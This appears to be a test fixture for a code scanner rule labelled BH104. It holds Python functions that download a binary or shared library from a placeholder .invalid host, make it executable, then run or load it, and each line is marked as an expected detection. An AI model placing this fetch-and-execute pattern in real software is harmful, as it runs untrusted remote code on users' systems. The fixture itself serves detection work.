# Download, then make executable or run. Inert: .invalid hosts, never executed.
import ctypes
import os
import subprocess
import tempfile
import urllib.request

import requests


def _fetch_tool():
    path = "/tmp/.cache-helper"
    urllib.request.urlretrieve("https://dl.example.invalid/helper.bin", path)  # expect: BH104
    os.chmod(path, 0o755)  # expect: BH104
    subprocess.Popen([path])  # expect: BH104


def _native():
    lib = os.path.join(tempfile.gettempdir(), "libfast.so")
    with open(lib, "wb") as f:
        f.write(requests.get("https://dl.example.invalid/libfast.so", timeout=10).content)  # expect: BH104
    return ctypes.CDLL(lib)  # expect: BH104
